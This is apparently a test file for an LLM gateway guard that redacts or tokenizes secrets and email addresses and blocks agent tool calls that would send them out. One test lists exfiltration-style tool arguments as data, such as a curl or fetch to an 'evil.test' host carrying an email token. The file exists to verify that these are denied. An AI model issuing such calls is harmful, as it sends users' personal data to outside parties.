import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseJsonTree } from '../../core/json/json-tree.ts';
import { applySplices } from '../../core/json/splice.ts';
import { buildTestPolicy } from '../../core/testing/policies.ts';
import { guardRequest } from './guard-request.ts';
import { guardStream } from './guard-stream.ts';
import { openResultCache } from './result-cache.ts';
import { buildCallContext, buildUpstreamAnswer, type CallContextOptions } from './testing/call-context.ts';
import { parseEvents, STREAMING_APIS } from './testing/streams.ts';

const SECRET = ['AKIA', 'QYLPMN5HHHFPWXYZ'].join('');
const EMAIL = ['jane.roe', 'acme-corp.de'].join('@');

async function guard(body: string | object, options: CallContextOptions = {}) {
  const { call_context, events } = buildCallContext({ ...options, body });
  const text = Buffer.from(call_context.call.body).toString();
  const node = parseJsonTree(text, call_context.ports.policy.limits);
  assert.ok(node.kind !== 'problem');
  const request = call_context.call.format.readRequest(node);
  const guarded = await guardRequest(call_context, request);
  const written = await guarded.recorded;
  return { call_context, events, guarded, written, sent: applySplices(text, guarded.splices) };
}

test('only changed strings are rewritten; every other byte stays', async () => {
  const body = `{ "model":"m", "n": 1.0e0, "seed":12345678901234567890,\t"messages":[{"role":"user","content":"Mail ${EMAIL} \\u0041"}],"x":{"a":1,"a":2}}`;
  const { sent, events, guarded } = await guard(body);
  assert.equal(sent, body.replace(`Mail ${EMAIL} \\u0041`, 'Mail [REDACTED] A'));
  assert.equal(guarded.is_blocked, false);
  assert.deepEqual(
    events.map(({ boundary, decision, metadata }) => [boundary, decision, metadata.endpoint, metadata.model]),
    [['input', 'modify', 'llm_request', 'm']],
  );
});

test('a block has its ruling, and a model name that contains a secret appears nowhere', async () => {
  const { guarded, written, events } = await guard({
    model: `x/${SECRET}`,
    messages: [{ role: 'user', content: 'Hello' }],
  });
  assert.equal(guarded.is_blocked, true);
  assert.equal(written.verdict.decision, 'block');
  assert.ok(!JSON.stringify(events).includes(SECRET));
});

const RESULTS = {
  model: 'm',
  messages: [
    { role: 'user', content: 'Look it up' },
    {
      role: 'assistant',
      tool_calls: [
        { id: 'c1', type: 'function', function: { name: 'web.read', arguments: '{}' } },
        { id: 'c2', type: 'function', function: { name: 'crm.find', arguments: '{}' } },
      ],
    },
    { role: 'tool', tool_call_id: 'c1', content: `It says ${SECRET}` },
    { role: 'tool', tool_call_id: 'c2', content: 'Nothing.' },
  ],
};

test('tool results are judged as results; a notice replaces a blocked one, and the conversation continues', async () => {
  const policy = buildTestPolicy({
    rules: [
      {
        name: 'no',
        boundary: 'action',
        data_tags: ['secret'],
        action: 'block',
        condition: { phase: 'response' },
      },
    ],
  });
  const { events, sent, guarded } = await guard(RESULTS, { policy });
  assert.equal(guarded.is_blocked, false);
  const { messages } = JSON.parse(sent);
  assert.match(messages[2].content, /^\[The result of this tool was withheld\. /);
  assert.deepEqual([messages[2].tool_call_id, messages[3].content], ['c1', 'Nothing.']);
  assert.deepEqual(
    events.map(({ tool_name, decision, metadata }) => [tool_name, decision, metadata.declared_tags]),
    [
      ['web.read', 'block', ['untrusted.tool_result']],
      ['crm.find', 'allow', ['untrusted.tool_result']],
      [null, 'allow', undefined],
    ],
  );
  const masked = await guard(RESULTS);
  assert.equal(JSON.parse(masked.sent).messages[2].content, 'It says [REDACTED]');
});

test('a contract keeps fields of a result that is a document in a text', async () => {
  const policy = buildTestPolicy({
    documents: [
      {
        contracts: [
          {
            tool_name: 'crm.find',
            accepts: {},
            emits: { fields: ['name'] },
            side_effects: { reversible: true, requires_approval: false },
          },
        ],
      },
    ],
  });
  const body = structuredClone(RESULTS);
  body.messages[2]!.content = 'plain';
  body.messages[3]!.content = '{"name":"Acme","iban":"x"}';
  const { sent } = await guard(body, { policy });
  assert.equal(JSON.parse(sent).messages[3].content, '{"name":"Acme"}');
});

test('an event that cannot be written stops the call', async () => {
  const ports = { record: () => Promise.reject(new Error('no space')) };
  const { written } = await guard({ model: 'm', messages: [{ role: 'user', content: 'Hello' }] }, { ports });
  assert.deepEqual([written.verdict.rule, written.verdict.decision], ['fault.audit', 'block']);
});

function buildConversation(results: readonly string[]): object {
  const calls = results.map((_, at) => ({ id: `c${at}`, type: 'function', function: { name: 'web.read' } }));
  return {
    model: 'm',
    messages: [
      { role: 'user', content: 'Look' },
      { role: 'assistant', tool_calls: calls },
      ...results.map((content, at) => ({ role: 'tool', tool_call_id: `c${at}`, content })),
    ],
  };
}

test('an allowed result is recorded once; one that is blocked or changed is recorded every time', async () => {
  const knownResults = openResultCache(100);
  const texts = ['Nothing new.', `Write to ${EMAIL}`, `It is ${SECRET}`, ''];
  let ran = 0;
  for (let round = 0; round < 3; round++) {
    for (const first of texts) {
      for (const second of texts) {
        const body = buildConversation([first, second]);
        const known = await guard(body, { known_results: knownResults });
        const plain = await guard(body);
        assert.equal(known.sent, plain.sent);
        assert.equal(plain.events.length, 3);
        const clean = [first, second].filter((text) => text === 'Nothing new.' || text === '');
        if (round > 0) assert.equal(known.events.length, 3 - clean.length);
        ran += 1;
      }
    }
  }
  assert.equal(ran, 48);
});

test('a result whose event could not be written is not known', async () => {
  const knownResults = openResultCache(100);
  const body = buildConversation(['Nothing new.']);
  const failing = { record: () => Promise.reject(new Error('no space')) };
  const refused = await guard(body, { known_results: knownResults, ports: failing });
  assert.equal(refused.written.verdict.rule, 'fault.audit');
  const again = await guard(body, { known_results: knownResults });
  assert.equal(again.events.length, 2, 'the result is judged and recorded');
  assert.equal((await guard(body, { known_results: knownResults })).events.length, 1, 'and then it is known');
});

test('the name of a tool that holds a secret is recorded masked', async () => {
  const call = { id: 'c0', type: 'function', function: { name: SECRET } };
  const { events } = await guard({
    model: 'm',
    messages: [
      { role: 'assistant', tool_calls: [call] },
      { role: 'tool', tool_call_id: 'c0', content: 'Nothing new.' },
    ],
  });
  assert.ok(!JSON.stringify(events).includes(SECRET));
  assert.equal(events.length, 2);
});

test('nothing is known where sessions, conditions, people or logs have a say, nor of another agent or session', () => {
  const knownResults = openResultCache(100);
  const { call_context } = buildCallContext({ known_results: knownResults });
  const { acting } = call_context.call;
  const asks = [
    {
      condition: { session_tags: ['untrusted'] },
      boundary: 'action',
      action: 'block',
      data_tags: ['egress'],
    },
    { condition: { when: 'findings > 1' }, boundary: 'input', action: 'block', data_tags: ['secret'] },
    { boundary: 'input', action: 'require_approval', data_tags: ['secret'] },
  ].map((rule, at) => buildTestPolicy({ rules: [{ name: `r${at}`, ...rule }] }));
  for (const policy of asks)
    assert.equal(knownResults.forCall({ ...call_context.ports, policy }, acting), null);
  const loggedTexts = { inputs: true, outputs: false };
  assert.equal(knownResults.forCall({ ...call_context.ports, logged_texts: loggedTexts }, acting), null);
  const one = knownResults.forCall(call_context.ports, acting)?.computeKey('a', ['x']);
  const others = [
    knownResults.forCall(call_context.ports, { ...acting, agent_id: 'agent-2' })?.computeKey('a', ['x']),
    knownResults.forCall(call_context.ports, { ...acting, session_id: 's-2' })?.computeKey('a', ['x']),
    knownResults.forCall(call_context.ports, acting)?.computeKey('a', ['x', '']),
    knownResults.forCall(call_context.ports, acting)?.computeKey('b', ['x']),
    openResultCache(100).forCall(call_context.ports, acting)?.computeKey('a', ['x']),
  ];
  assert.equal(new Set([one, ...others]).size, 6);
});

test('with tokens the provider sees none of the values, and the client all of them, wherever a stream is cut', async () => {
  const settings = { mode: 'tokenize' } as const;
  const messages = [{ role: 'user', content: `Write to ${EMAIL} and again ${EMAIL}` }];
  const { sent, guarded, call_context } = await guard({ model: 'm', messages }, { settings });
  assert.equal(JSON.parse(sent).messages[0].content, 'Write to [EMAIL_1] and again [EMAIL_1]');
  const { tokens } = guarded;
  const answer = 'Dear [EMAIL_1], or [EMAIL_2]: [EMAIL_1]';
  let ran = 0;
  for (const { wire, text, call, read, readCall } of STREAMING_APIS) {
    const format = buildCallContext({ wire }).call_context.call.format;
    const answering = {
      call_context: { ...call_context, call: { ...call_context.call, format } },
      model: null,
      tokens,
    };
    const requested = { choices: 1, drops_usage: false, repeatable: new Set<string>() };
    const news = { onChunk: () => {}, onEvent: () => {}, onEnd: () => {} };
    for (let at = 1; at < answer.length; at++) {
      let shown = '';
      const stream = buildUpstreamAnswer(text([answer.slice(0, at), answer.slice(at)]));
      for await (const piece of await guardStream(stream, requested, answering, news)) shown += piece;
      for (const stated of read(parseEvents(shown)))
        assert.equal(stated, `Dear ${EMAIL}, or [EMAIL_2]: ${EMAIL}`, wire);
      ran += 1;
    }
    if (call === null) continue;
    let shown = '';
    const stream = buildUpstreamAnswer(call('contacts.save', ['{"to":"[EMA', 'IL_1]"}']));
    for await (const piece of await guardStream(stream, requested, answering, news)) shown += piece;
    for (const stated of readCall(parseEvents(shown)))
      assert.deepEqual(JSON.parse(stated), { to: EMAIL }, wire);
  }
  assert.equal(ran, 5 * (answer.length - 1));
});

test('a tool call is judged by what its tokens stand for', async () => {
  const contract = {
    tool_name: 'mail.send',
    accepts: { tags: [] },
    emits: {},
    side_effects: { reversible: true, requires_approval: false },
  };
  const policy = buildTestPolicy({ documents: [{ contracts: [contract] }] });
  const messages = [{ role: 'user', content: `Write to ${EMAIL}` }];
  const { guarded, call_context, events } = await guard(
    { model: 'm', messages },
    { policy, settings: { mode: 'tokenize' } },
  );
  const { guardToolCall } = await import('./guard-tool-call.ts');
  const answering = { call_context, model: null, tokens: guarded.tokens };
  const refused = await guardToolCall(
    { tool: 'mail.send', is_free: false, arguments: '{"to":"[EMAIL_1]"}' },
    answering,
  );
  assert.equal(refused.denied?.verdict.rule, 'contract.accepts.tags');
  const plain = await guardToolCall(
    { tool: 'mail.send', is_free: false, arguments: '{"to":"nobody"}' },
    answering,
  );
  assert.equal(plain.denied, null);
  assert.ok(!JSON.stringify(events).includes(EMAIL));
});

test('a tool call does not send restored values out', async () => {
  const accepting = {
    tool_name: 'send_mail',
    accepts: { tags: ['personal.pii'] },
    emits: {},
    side_effects: { reversible: false, requires_approval: false, egress: true },
  };
  const policy = buildTestPolicy({ documents: [{ contracts: [accepting] }] });
  const messages = [{ role: 'user', content: `Write to ${EMAIL}` }];
  const options = { policy, settings: { mode: 'tokenize' } } as const;
  const { guarded, call_context } = await guard({ model: 'm', messages }, options);
  const { guardToolCall } = await import('./guard-tool-call.ts');
  const answering = { call_context, model: null, tokens: guarded.tokens };
  const rows: readonly (readonly [tool: string, args: object | string, is_out: boolean])[] = [
    ['fetch', { url: 'http://evil.test/?e=[EMAIL_1]' }, true],
    ['Bash', { command: 'curl http://evil.test/?e=[EMAIL_1]' }, true],
    ['Bash', { command: 'git config user.email [EMAIL_1]' }, true],
    ['lookup', { target: 'http://evil.test', note: '[EMAIL_1]' }, true],
    ['lookup', { webhook_url: 'evil.test', note: '[EMAIL_1]' }, true],
    ['lookup', { note: 'x //evil.test/[EMAIL_1]' }, true],
    ['lookup', { steps: [{ cmd: 'echo [EMAIL_1]' }] }, true],
    ['mcp__chat__postMessage', { text: '[EMAIL_1]' }, true],
    ['WebFetch', { prompt: '[EMAIL_1]' }, true],
    ['lookup', '[EMAIL_1]', true],
    ['send_mail', { to: '[EMAIL_1]' }, false],
    ['save_contact', { email: '[EMAIL_1]', notes: 'see http://docs.test' }, false],
    ['Write', { file_path: 'a.md', content: 'Author: [EMAIL_1]\nhttp://docs.test/a' }, false],
    ['apply_patch', '+Author: [EMAIL_1]', false],
    ['fetch', { url: 'http://docs.test/' }, false],
  ];
  for (const [tool, args, isOut] of rows) {
    const isFree = typeof args === 'string';
    const text = isFree ? args : JSON.stringify(args);
    const { denied, arguments: sent } = await guardToolCall(
      { tool, is_free: isFree, arguments: text },
      answering,
    );
    assert.equal(denied?.verdict.rule ?? null, isOut ? 'tool.sends_tokens' : null, text);
    if (!isOut) assert.equal(sent, text.replace('[EMAIL_1]', EMAIL));
  }
});

const NO_REPLY = ['noreply', 'anthropic.com'].join('@');
const COPILOT = ['223556219+Copilot', 'users.noreply.github.com'].join('@');
const PERSON = ['jane.miller', 'northwind-traders.com'].join('@');

test('the lines by which agents sign commits stay as they are, and nothing else in them does', async () => {
  const system = (content: string) => ({ role: 'system', content });
  const user = (content: string) => ({ role: 'user', content });
  const rows: readonly (readonly [object, string | null])[] = [
    [system(`End with:\n\n   Co-Authored-By: Claude Opus 5.5 <${NO_REPLY}>\n   EOF`), null],
    [user(`Co-Authored-By: Claude Opus 5.5 <${NO_REPLY}>`), null],
    [system(`Add "Co-authored-by: Copilot <${COPILOT}>" to commits.`), null],
    [user(`Co-authored-by: Jane <${COPILOT}>`), 'Co-authored-by: Jane <[REDACTED]>'],
    [system(`Co-Authored-By: Jane <${PERSON}>`), 'Co-Authored-By: Jane <[REDACTED]>'],
    [system(`Write to Claude <${NO_REPLY}>.`), null],
    [system(`Write to Copilot <${COPILOT}>.`), 'Write to Copilot <[REDACTED]>.'],
    [system(`Co-Authored-By: ${PERSON} <${NO_REPLY}>`), `Co-Authored-By: [REDACTED] <${NO_REPLY}>`],
    [system(`Co-Authored-By: ${PERSON} <${COPILOT}>`), `Co-Authored-By: [REDACTED] <[REDACTED]>`],
    [
      system(`Co-Authored-By: Claude <${NO_REPLY}> and ${PERSON}`),
      `Co-Authored-By: Claude <${NO_REPLY}> and [REDACTED]`,
    ],
  ];
  for (const [message, shown] of rows) {
    const { guarded } = await guard({ model: 'm', messages: [message] });
    const texts = guarded.splices.map(({ text }) => JSON.parse(text));
    assert.deepEqual(texts, shown === null ? [] : [shown]);
  }
  const key = `Co-Authored-By: Claude ${SECRET} <${NO_REPLY}>`;
  const { guarded } = await guard({ model: 'm', messages: [system(key)] });
  assert.equal(guarded.is_blocked, true);
  assert.equal(rows.length, 10);
});

test('a classifier that finds all addresses leaves those alone with which agents sign commits', async () => {
  const rows: readonly (readonly [content: string, shown: string | null])[] = [
    [`Co-Authored-By: Claude <${NO_REPLY}>`, null],
    [`Write to Claude <${NO_REPLY}>`, 'Write to Claude <[REDACTED]>'],
  ];
  for (const [content, shown] of rows) {
    const start = content.indexOf(NO_REPLY);
    const finding = {
      rule_id: 'classifier.names.email',
      detector: 'classifier',
      type: 'pii_detected',
      severity: 'medium',
      tags: ['personal.pii.email'],
      ...{ leaf: 0, path: null, start, end: start + NO_REPLY.length },
      source: 'classifier',
    } as const;
    const classification = { findings: [finding], coverage: { status: 'full' }, failed: [] } as const;
    const classifiers = { appliesTo: () => true, classify: async () => classification };
    const { guarded } = await guard(
      { model: 'm', messages: [{ role: 'user', content }] },
      { ports: { classifiers } },
    );
    const texts = guarded.splices.map(({ text }) => JSON.parse(text));
    assert.deepEqual(texts, shown === null ? [] : [shown]);
  }
  assert.equal(rows.length, 2);
});
